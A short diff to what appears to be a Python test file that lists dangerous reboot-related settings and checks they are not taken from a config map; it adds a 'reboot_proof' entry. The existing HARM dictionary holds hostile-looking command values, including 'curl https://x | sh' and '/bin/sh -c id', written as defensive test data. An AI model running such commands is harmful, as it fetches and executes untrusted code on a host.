@@ -18,6 +18,7 @@ NAME = "careen/careen"
 # What each would do if it were taken.
 HARM: dict[str, str] = {
     "reboot_probes": "zypper",  # runs what the host has under that name
+    "reboot_proof": "soft-reboots",
     "reboot_sentinel_command": "sh -c 'curl https://x | sh'",
     "reboot_command": "/bin/sh -c id",
     "host_exec": "direct",
@@ -61,6 +62,7 @@ def test_these_settings_and_no_others_are_kept_from_the_config_map() -> None:
         "reboot_sentinel_command",
         "reboot_command",
         "reboot_probes",
+        "reboot_proof",
         "host_exec",
         "reboot_signal",
     }
